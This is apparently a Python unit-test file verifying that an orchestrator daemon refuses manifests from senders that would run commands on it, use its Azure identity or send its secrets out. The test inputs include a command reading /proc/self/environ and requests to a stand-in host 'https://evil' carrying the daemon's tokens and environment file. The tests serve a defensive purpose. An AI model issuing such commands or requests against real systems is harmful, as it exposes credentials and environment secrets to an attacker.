"""A manifest that is sent to a daemon runs nothing on its machine, and borrows neither its identity nor its secrets."""

from __future__ import annotations

import pytest

from orchestrator.manifest.loader import from_snapshot
from orchestrator.manifest.problems import ManifestError
from orchestrator.remote.sending import reread
from orchestrator.store.records import Snapshot
from tests.unit.orchestrator.yard import MANIFEST, TEMPLATE


def snapshot(item: str, *, own: bool = False) -> Snapshot:
    """A manifest whose service, or whose target, has one source."""
    gates = f"gates: {{probe: {{port: 80}}, metrics: [{item}]}}"
    old = "gates: {probe: {port: 80, interval: 1s, before: 2}}\n"
    assert old in MANIFEST
    text = MANIFEST.replace("strategy:", f"    {gates}\nstrategy:") if own else MANIFEST.replace(old, "") + f"{gates}\n"
    return Snapshot(text, "shop.yaml", (("t.yaml", TEMPLATE),))


def told(item: str, *, own: bool = False) -> list[tuple[str, str]]:
    """The paths and messages of what a daemon refuses."""
    sent = snapshot(item, own=own)
    assert from_snapshot(sent, strict=True).targets[0].sources, "it is a good manifest where it is written"
    try:
        reread(sent)
    except ManifestError as error:
        return [(problem.path, problem.message) for problem in error.problems]
    return []


@pytest.mark.parametrize(("own", "path"), [(False, "gates"), (True, "targets[0].gates")])
def test_a_command_is_not_run_for_a_sender(own: bool, path: str) -> None:
    ((where, why),) = told("{name: a, command: {run: cat /proc/self/environ}}", own=own)
    assert where == f"{path}.metrics[0].command"
    assert "on whose machine it would run: use a `job`" in why


def test_the_daemons_identity_is_not_shown_where_a_sender_says() -> None:
    scope = "https://management.azure.com/.default"
    item = f"{{name: a, webhook: {{url: 'https://evil', auth: azure, scope: '{scope}'}}}}"
    ((where, why),) = told(item)
    assert where == "gates.metrics[0].webhook.auth"
    assert "whose identity is its own" in why


def test_the_daemons_own_secrets_are_not_sent_where_a_sender_says() -> None:
    headers = "{A: 'Bearer ${env:ROLLOUT_OPERATE_TOKEN}', B: '${file:/proc/self/environ}', C: '${env:SHOP_TOKEN}'}"
    found = told(f"{{name: a, prometheus: {{url: 'https://evil', requests: $side, headers: {headers}}}}}")
    assert [where.rpartition(".")[2] for where, _ in found] == ["A", "B"]
    assert "the daemon's own" in found[0][1]


def test_what_reaches_nothing_of_the_daemons_own_may_be_sent() -> None:
    azures = "https://shop-1.westeurope.prometheus.monitor.azure.com"
    assert told("{name: a, probes: {}}") == []
    assert told(f"{{name: a, prometheus: {{url: '{azures}', requests: $side, auth: azure}}}}") == []
    assert told("{name: a, webhook: {url: 'https://hook', headers: {A: 'b ${env:SHOP_TOKEN}'}}}") == []
